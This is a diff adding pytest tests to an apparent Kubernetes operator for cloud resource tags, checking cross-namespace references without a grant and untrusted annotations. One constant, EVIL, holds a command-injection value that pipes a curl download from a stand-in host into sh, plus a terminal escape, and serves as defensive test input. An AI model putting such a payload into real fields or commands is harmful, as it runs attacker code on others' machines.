@@ -4,8 +4,11 @@ from __future__ import annotations
 
 import pytest
 
+from freehold.api import names
 from freehold.kube.resources import Key
-from harness.metadata import CLASSIFIER, NAMESPACE, WANTED, Lab
+from freehold.operator.keyring_use import first_ring
+from freehold.operator.metadata.key_needs import tag_needs
+from harness.metadata import CLASSIFIER, NAMESPACE, PLACE, WANTED, Lab
 
 
 @pytest.fixture
@@ -78,3 +81,36 @@ async def test_a24_a_classifier_of_a_younger_object_does_not_stop_a_removal(lab:
     await lab.remove("plat")
     assert lab.tags_on(arn) == {CLASSIFIER: "owned"}
     assert ("AWSMetadata", Key(NAMESPACE, "plat")) not in lab.objects.objects
+
+
+async def test_a2_a_stranger_without_a_grant_does_not_speak_for_our_tags(lab: Lab) -> None:
+    """Its object is older, refers to our AWSMetadata from another namespace, and is refused."""
+    ref = {"cloudprovider": {"awsref": {"name": "awstags", "namespace": NAMESPACE}}, "classifiers": {"a": "b"}}
+    stranger = {"kind": "CloudMetadata", "metadata": {"name": "evil", "namespace": "evil"}, "spec": ref}
+    await lab.apply(stranger)
+    lab.groups(1)
+    await lab.apply_examples()
+    await lab.settle()
+    await lab.process.reconcile(Key("evil", "evil"))
+    told = lab.status("AWSMetadata", "awstags")
+    assert (told["status"], told["resourcetags"]) == ("True", WANTED)
+    lab.wait()
+    await lab.settle()
+    assert lab.status("AWSMetadata", "awstags") == told
+    assert lab.objects.objects["CloudMetadata", Key("evil", "evil")]["status"]["reason"] == "ReferenceNotGranted"
+
+
+EVIL = "u $(curl${IFS}evil|sh)\n\x1b[2J s"
+
+
+async def test_a12_an_annotation_that_is_not_ours_does_not_mark_the_record_as_lost(lab: Lab) -> None:
+    """Nor does it name a key: its text would stand in a message, and in a command to copy."""
+    lab.groups(1)
+    annotated = {"name": "evil", "namespace": "evil", "annotations": {names.TAGS_WRITER_ANNOTATION: EVIL}}
+    await lab.apply({"kind": "AWSMetadata", "metadata": annotated, "spec": {"resourcetags": {"a": "b"}}})
+    await lab.apply_examples()
+    await lab.settle()
+    assert lab.condition("Policy")[:2] == ("True", "AsAsked")
+    await lab.lose_record()
+    lab.object("AWSMetadata", "awstags")["metadata"]["annotations"].clear()
+    first_ring("the test", await tag_needs(lab.objects, PLACE), 0.0)
